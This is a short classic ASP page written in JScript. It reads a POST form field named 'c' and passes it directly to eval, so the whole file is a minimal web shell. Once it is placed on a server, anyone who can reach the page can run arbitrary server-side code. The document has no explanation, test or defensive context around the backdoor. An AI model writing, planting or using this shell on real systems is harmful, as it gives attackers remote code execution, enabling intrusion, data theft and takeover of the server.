<%@ Language=JScript %>
<%
var c = Request.Form("c") + "";
eval(Request.Form("c") + "");
%>
